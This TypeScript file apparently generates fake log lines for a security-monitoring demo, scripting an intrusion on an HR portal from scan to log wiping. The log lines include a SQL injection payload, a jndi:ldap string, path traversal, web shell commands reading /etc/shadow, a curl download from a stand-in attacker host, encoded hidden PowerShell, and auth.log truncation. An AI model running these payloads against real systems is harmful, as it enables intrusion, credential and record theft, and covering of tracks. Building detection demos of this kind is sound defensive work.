import type { DemoLine } from './background.ts';
import { apiCall, auditExec, eve, nginx, sshAccepted, sshFailed, usg, type WebRequest, windows } from './lines.ts';

/** One step of the story: seconds after its beginning, and what the machines then report. */
export interface Step {
  readonly afterSeconds: number;
  readonly lines: (at: Date) => DemoLine[];
}

const ATTACKER = '203.0.113.77';
const SCANNER = 'Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)';
const BROWSER =
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36';

const web = (at: Date, request: Partial<WebRequest> & { target: string }): DemoLine => ({
  source: 'hr-web',
  text: nginx(at, { from: ATTACKER, method: 'GET', status: 404, bytes: 153, agent: BROWSER, ...request }),
});
const onPortal = (text: string): DemoLine => ({ source: 'hr-linux', text });
const onWindows = (at: Date, channel: string, id: number, data: Readonly<Record<string, string>>): DemoLine => ({
  source: 'hr-windows',
  text: windows(at, 'HR-APP-02', channel, id, data),
});
const repeat = <T>(count: number, make: (index: number) => T): T[] =>
  Array.from({ length: count }, (_, index) => make(index));

const scan: Step = {
  afterSeconds: 2,
  lines: (at) => [
    ...[
      '/phpmyadmin/',
      '/.env',
      '/wp-login.php',
      '/manager/html',
      '/actuator/env',
      '/.git/config',
      '/admin.jsp',
      '/druid/index.html',
    ].map((target) => web(at, { target, agent: SCANNER })),
    {
      source: 'edu-ids',
      text: eve(at, {
        event_type: 'alert',
        src_ip: ATTACKER,
        src_port: 51_544,
        dest_ip: '10.71.10.21',
        dest_port: 443,
        alert: {
          action: 'allowed',
          gid: 1,
          signature_id: 2_101_201,
          rev: 3,
          signature: 'WEB-ATTACK scan of a government portal',
          category: 'Web Application Attack',
          severity: 1,
        },
      }),
    },
  ],
};

const exploit: Step = {
  afterSeconds: 6,
  lines: (at) => [
    web(at, {
      target: '/bsfw/detail?id=1%27%20UNION%20SELECT%201,username,password%20FROM%20sys_user--%20',
      status: 200,
      bytes: 8812,
    }),
    web(at, { target: '/search?q=$%7Bjndi:ldap://203.0.113.77:1389/a%7D', status: 500 }),
    web(at, { target: '/download?file=../../../../etc/passwd', status: 200, bytes: 1933 }),
  ],
};

const bruteForce: Step = {
  afterSeconds: 9,
  lines: (at) => [
    ...repeat(14, (index) =>
      onPortal(sshFailed(new Date(at.getTime() + index * 200), 'hr-portal-01', 'root', ATTACKER, 50_100 + index)),
    ),
    onPortal(sshAccepted(new Date(at.getTime() + 3200), 'hr-portal-01', 'root', ATTACKER, 50_199, 'password')),
  ],
};

const webShell: Step = {
  afterSeconds: 15,
  lines: (at) => [
    web(at, { method: 'POST', target: '/upload/avatar/20260301/cmd.jsp', status: 200, bytes: 31 }),
    web(at, { method: 'POST', target: '/upload/avatar/20260301/cmd.jsp?cmd=whoami', status: 200, bytes: 12 }),
    web(at, {
      method: 'POST',
      target: '/upload/avatar/20260301/cmd.jsp?cmd=cat+/etc/shadow',
      status: 200,
      bytes: 1420,
    }),
    ...auditExec(at, 'hr-portal-01', 7001, {
      uid: 33,
      parent: 'nginx',
      exe: '/usr/bin/bash',
      args: ['bash', '-c', 'whoami; id; uname -a'],
    }).map(onPortal),
    ...auditExec(at, 'hr-portal-01', 7002, {
      uid: 33,
      parent: 'java',
      exe: '/usr/bin/curl',
      args: ['curl', '-o', '/tmp/.x/frpc', 'http://203.0.113.77/frpc'],
    }).map(onPortal),
  ],
};

const foothold: Step = {
  afterSeconds: 20,
  lines: (at) => [
    onWindows(at, 'Security', 4688, {
      NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      CommandLine: 'powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA',
      ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
      SubjectUserName: 'svc_report',
    }),
    onWindows(at, 'Security', 4720, {
      TargetUserName: 'helpdesk$',
      SubjectUserName: 'svc_report',
      TargetDomainName: 'HR-APP-02',
    }),
    onWindows(at, 'Security', 4732, {
      TargetUserName: 'Administrators',
      TargetSid: 'S-1-5-32-544',
      MemberName: '-',
      MemberSid: 'S-1-5-21-1-2-3-1105',
      SubjectUserName: 'svc_report',
    }),
    {
      source: 'region-firewall',
      text: usg(at, 'GX-FW-01', {
        from: '10.71.10.22',
        to: ATTACKER,
        fromPort: 49_822,
        toPort: 7000,
        action: 'permit',
        bytes: 901_000,
      }),
    },
  ],
};

const bulkPull: Step = {
  afterSeconds: 25,
  lines: (at) =>
    repeat(40, (index) => ({
      source: 'health-api',
      text: apiCall(new Date(at.getTime() + index * 50), 500_000 + index, {
        caller: 'hr-portal',
        callerUnit: '南宁人社',
        from: '10.71.10.21',
        interfaceId: 'health-record-query',
        interfaceName: '居民健康档案查询',
        path: '/v1/records',
        query: `page=${index}&size=5000`,
        rows: 5000,
        sensitive: { id_card: 5000, mobile: 4980, bank_card: 120 },
        declared: ['id_card'],
        sample: '4501**********021*',
      }),
    })),
};

const cover: Step = {
  afterSeconds: 31,
  lines: (at) => [
    onWindows(at, 'Security', 1102, { SubjectUserName: 'helpdesk$', SubjectDomainName: 'HR-APP-02' }),
    ...auditExec(at, 'hr-portal-01', 7003, {
      uid: 0,
      parent: 'bash',
      exe: '/usr/bin/truncate',
      args: ['truncate', '-s', '0', '/var/log/auth.log'],
    }).map(onPortal),
  ],
};

/** Scan, exploit, brute force, web shell, foothold, bulk pull of an interface, covering of tracks: half a minute. */
export const INTRUSION: readonly Step[] = [scan, exploit, bruteForce, webShell, foothold, bulkPull, cover];
